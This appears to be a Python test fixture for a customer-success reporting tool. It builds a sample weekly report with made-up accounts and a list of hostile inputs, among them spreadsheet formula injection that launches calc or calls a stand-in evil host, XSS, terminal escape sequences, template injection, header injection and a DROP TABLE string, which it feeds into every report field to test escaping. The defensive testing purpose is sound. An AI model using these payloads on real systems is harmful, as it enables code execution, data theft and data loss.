"""A report with everything in it, and the strings of people who mean harm."""

from __future__ import annotations

from typing import Any

from cs_cli.reports.model import Column, Figure, Report, Section

COLUMNS = (
    Column("name", "Account"),
    Column("account_id", "Id", hidden=True),
    Column("severity", "Severity", "severity"),
    Column("band", "Health", "band"),
    Column("health", "Score", "score"),
    Column("arr", "ARR", "money"),
    Column("change", "Usage, 4 weeks", "ratio"),
    Column("trend", "13 weeks", "list"),
    Column("renewal_date", "Renews on", "day"),
    Column("days", "Days", "days"),
    Column("auto", "Auto-renews", "flag"),
    Column("owner", "Owner"),
    Column("because", "Why"),
)


def row(name: str, **more: Any) -> dict[str, Any]:
    return {
        "name": name,
        "account_id": "8834501200",
        "severity": "red",
        "band": "green",
        "health": 91.4,
        "arr": 190800.0,
        "change": 0.021,
        "trend": [118, 120, None, 124, 131, 129, 134],
        "days": 20,
        "renewal_date": "2026-07-20",
        "auto": False,
        "owner": "Mara Lindqvist",
        "because": "days_to_notice 6 <= 14; not auto_renew",
    } | more


ROWS = (
    row("Meridian Orchards"),
    row(
        "Pellworm Analytics",
        severity="amber",
        band="amber",
        health=52.2,
        arr=105600.0,
        change=-0.34,
        trend=[92, 90, 88, 84, 79, 71, 63, 55, 47, 41],
        renewal_date="2026-11-03",
        days=126,
        auto=True,
        because="usage_change_28d -34% < -30%; tier A",
    ),
    row(
        "Lindenwood School Trust",
        band="red",
        health=20.0,
        arr=26520.0,
        change=-0.14,
        trend=[22, 21, 20, 18],
        renewal_date="2026-08-15",
        days=46,
        because="cancel_requested; asked on 2026-06-24",
    ),
    row(
        "Novafjord Energy",
        severity="info",
        band="unknown",
        health=None,
        arr=31200.5,
        change=None,
        trend=None,
        renewal_date=None,
        days=None,
        auto=None,
        owner=None,
        because="known_share 32% < 50%",
    ),
)

FULL = Report(
    "weekly",
    "Customer Success week",
    "2026-06-30",
    "USD",
    "Lumenboard",
    header=("HubSpot as of 2026-06-30", "Stripe as of 2026-06-30", "Usage to 2026-06-28"),
    sections=(
        Section(
            "numbers",
            "Where we stand",
            text="Two accounts need a decision this week; one of them is our largest.",
            figures=(
                Figure("arr", "ARR", 1729872.0, "money", "61 customers", 1708431.0),
                Figure(
                    "nrr",
                    "Net revenue retention, 12 months",
                    1.043,
                    "ratio",
                    "1,571,300 / 1,506,500; n = 52",
                    1.051,
                ),
                Figure(
                    "grr", "Gross revenue retention", 0.914, "ratio", "1,376,900 / 1,506,500; n = 52", 0.914
                ),
                Figure("band", "Health of the ten largest", "amber", "band", "7 green, 2 amber, 1 red"),
                Figure(
                    "active", "Active users, weekly", [1410, 1430, 1395, 1442, 1461, 1478], "list", "26 weeks"
                ),
                Figure("nps", "NPS, 180 days", None, "number", "no answers yet"),
            ),
        ),
        Section("escalations", "Escalations", COLUMNS, ROWS),
        Section("quiet", "New this week", COLUMNS, (), empty="Nothing new: enjoy your coffee."),
    ),
)

HOSTILE = (
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd",
    "+1+cmd",
    "-2+3+cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    ";=1",
    '"=1',
    "'=1",
    "''=1",
    " =1",
    "\u200b=1",
    '=HYPERLINK("http://x?"&A1)',
    '=IMPORTXML("http://x","//a")',
    "%0A=1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)",
    "javascript:alert(1)",
    "</script><svg onload=alert(1)>",
    "</style><b>x",
    "</td></tr></table><h1>x",
    "&lt;b&gt;",
    "[click](javascript:alert(1))",
    "![x](http://evil.example/p.png)",
    "a|b",
    "line\nbreak",
    "`code`",
    "<b>bold</b>",
    "# head",
    "- item",
    "1. one",
    "> quote",
    "***",
    "---",
    "http://evil.example",
    "<http://evil.example>",
    "www.evil.example",
    "~~gone~~",
    "$x$",
    "a_b_c",
    "*a*",
    "[ref]: http://evil.example",
    "\\",
    "\\|",
    "&copy;",
    "<!channel>",
    "<@U123>",
    "\x1b[2J",
    "\x1b]52;c;aGk=\x07",
    "\x1b]8;;http://evil.example\x1b\\x",
    "\x9b31mred",
    "\x90q",
    "a\rb",
    "a\bb",
    "\x07",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "a\u2028b",
    "a\x0bb",
    "a\x85b",
    "\x7f",
    "\x00",
    "[red]x[/red]",
    "[/x]",
    "[link=http://evil.example]x[/link]",
    ":smile:",
    "x\r\nBcc: a@b.example",
    "x\r\nEND:VEVENT",
    "{{7*7}}",
    "{{cycler.__init__.__globals__}}",
    "{% for x in y %}",
    "{# c #}",
    "../../x",
    "'); DROP TABLE account;--",
    "Acme, Inc",
    "Zoë 東京 Ltd 👩‍💻",
    "-5",
    "+3.2",
    "-",
    "",
    " lead",
    "trail ",
)


def hostile(text: str) -> Report:
    """A report where the text stands in every place that data can reach."""
    columns = (
        Column("name", "Account"),
        Column("because", text),
        Column("band", "Band", "band"),
        Column("tags", "Tags", "list"),
        Column("arr", "ARR", "money"),
    )
    rows = ({"name": text, "because": text, "band": text, "tags": [text, text], "arr": -5.0},)
    lines = text.replace("\n", " ")  # line ends in a section's text are paragraphs, and meant
    figure = Figure("f", text, text, "text", text)
    section = Section("s", text, columns, rows, (figure,), lines, text)
    empty = Section("e", text, columns, (), (), "", text)
    return Report("r", text, "2026-06-30", "EUR", text, (text,), (section, empty))
